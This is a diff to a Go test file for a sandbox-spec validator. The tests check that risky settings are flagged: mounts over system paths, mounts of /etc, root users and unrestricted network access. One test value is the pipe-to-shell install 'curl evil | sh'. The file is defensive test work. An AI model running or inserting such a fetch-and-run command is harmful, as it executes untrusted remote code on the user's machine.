@@ -51,7 +51,7 @@ func TestBeyond(t *testing.T) {
 		noError(t, os.Symlink(to, filepath.Join(project, link)))
 	}
 	mount := func(source, mode string) func(*Spec) {
-		return func(s *Spec) { s.Mounts = []Mount{{Source: source, Target: "/x", Mode: mode}} }
+		return func(s *Spec) { s.Mounts = []Mount{{Source: source, Target: "/srv/x", Mode: mode}} }
 	}
 	granted := func() Spec {
 		s := Defaults()
@@ -107,6 +107,9 @@ func TestBeyond(t *testing.T) {
 		{"shell of the project", func(s *Spec) { s.Shell = []string{"/workspace/bash"} }, nil, "shell: starts"},
 		{"install", func(s *Spec) { s.Install = "curl evil | sh" }, nil, `install: has you install a program by "curl evil | sh"`},
 		{"command", func(s *Spec) { s.Command = []string{"evil"} }, nil, `command: starts "evil" where you attach`},
+		{"over programs", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/usr/local/bin", Mode: "ro"}} }, nil, `mounts[0].target: puts its own files in place of the sandbox's "/usr/local/bin"`},
+		{"over settings", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/home/dev", Mode: "ro"}} }, nil, "mounts[0].target: puts"},
+		{"over all work", func(s *Spec) { s.Mounts = []Mount{{Source: project, Target: "/mnt", Mode: "ro"}} }, nil, ""},
 		{"setup", func(s *Spec) { s.Setup = []string{"a", "b"} }, nil, "setup: runs 2 commands when it is made"},
 		{"pre_stop", func(s *Spec) { s.Automation.PreStop = []string{"a"} }, nil, `automation.pre_stop: runs "a" when it stops`},
 		{"user", func(s *Spec) { s.User = "root" }, nil, `user: runs programs as "root"`},
@@ -145,7 +148,7 @@ func TestBeyond(t *testing.T) {
 		{"nothing listed", func(s *Spec) { s.Network.Allow, s.Network.Domains = nil, nil }, listed, "network.allow: reaches all of the internet"},
 		{"port", func(s *Spec) { s.Ports = []Port{{Port: 81}} }, nil, "ports[0]: shows its port 81 to you"},
 		{"public port", func(s *Spec) { s.Ports = []Port{{Port: 80, Public: true}} }, nil, "ports[0]: shows its port 80 to everybody"},
-		{"outside", mount("/etc", MountRO), nil, `mounts[0].source: mounts "/etc" (ro) at "/x", which is outside of the project`},
+		{"outside", mount("/etc", MountRO), nil, `mounts[0].source: mounts "/etc" (ro) at "/srv/x", which is outside of the project`},
 		{"above", mount(filepath.Dir(project), MountRO), nil, "mounts[0].source: mounts"},
 		{"a neighbour", mount(project+"-2", MountRO), nil, "mounts[0].source: mounts"},
 		{"a link out", mount(project+"/keys", MountRO), nil, "which is a link to"},
